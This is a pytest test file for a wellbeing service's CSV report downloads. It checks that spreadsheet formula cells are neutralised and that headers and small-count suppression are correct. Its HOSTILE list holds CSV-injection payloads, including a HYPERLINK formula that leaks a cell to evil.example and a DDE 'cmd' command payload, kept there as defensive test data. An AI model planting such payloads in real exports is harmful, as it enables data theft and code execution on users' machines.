"""CSV files of report tables: one per table, downloaded as attachments with the page's filters,
every cell that a spreadsheet would run as a formula neutralised."""

import csv
import io
from datetime import date

import pytest

from tests.reports.conftest import uk
from wellbeing.accounts.models import Role
from wellbeing.csv_safety import neutralise
from wellbeing.extensions import db
from wellbeing.reports.csv_export import table_csv
from wellbeing.reports.tables import TABLE_KEYS, Table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["12", "<5", "not shown", "75%", "-0.50", "+1.25", "Quayside Practice", "", "'quoted"]
)
def test_numbers_and_words_are_left_as_they_are(cell) -> None:
    assert neutralise(cell) == cell


def test_a_table_as_csv_starts_with_a_byte_order_mark() -> None:
    text = table_csv(Table("t", "T", ["Name", "Count"], [["=1+1", "3"]]))
    assert text == "\ufeffName,Count\r\n'=1+1,3\r\n"


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


@pytest.fixture
def hostile_practices(add_referral):
    """Referring organisations named to attack a spreadsheet (names come from accounts)."""
    for name in HOSTILE:
        for day in range(1, 6):
            add_referral(uk(date(2026, 3, day)), organisation=name)
    db.session.commit()


def test_organisation_names_are_neutralised_in_the_download(client, login_as, hostile_practices):
    login_as(Role.COMMISSIONER)
    response = client.get("/reports/by-practice.csv?from=2026-03-01&to=2026-03-31")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="wellbeing-by-practice-2026-03-01-to-2026-03-31.csv"'
    )
    rows = _rows(response)
    assert rows[0] == ["Organisation", "Referrals"]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names == {**{"'" + name: "5" for name in HOSTILE}, "Total": "30"}
    assert not any(row[0].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)


@pytest.mark.parametrize("key", TABLE_KEYS)
def test_every_table_downloads_as_on_the_page(client, login_as, add_referral, key) -> None:
    for day in range(1, 4):
        add_referral(uk(date(2026, 3, day)))
    db.session.commit()
    login_as(Role.ADMIN)
    response = client.get(f"/reports/{key}.csv?from=2026-01-01&to=2026-06-30")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    rows = _rows(response)
    assert rows[0] and len({len(row) for row in rows}) == 1  # a heading, rows of its width
    page = client.get("/reports?from=2026-01-01&to=2026-06-30").get_data(as_text=True)
    assert f"/reports/{key}.csv?from=2026-01-01&amp;to=2026-06-30" in page


def test_small_counts_in_a_download_are_under_5(client, login_as, add_referral) -> None:
    for day in range(1, 4):
        add_referral(uk(date(2026, 3, day)))
    db.session.commit()
    login_as(Role.COMMISSIONER)
    rows = _rows(client.get("/reports/by-source.csv?from=2026-03-01&to=2026-03-31"))
    assert rows == [
        ["Source", "Referrals"],
        ["GP practice", "<5"],
        ["Other professional", "0"],
        ["Self-referral", "0"],
        ["Link worker", "0"],
        ["Total", "<5"],
    ]
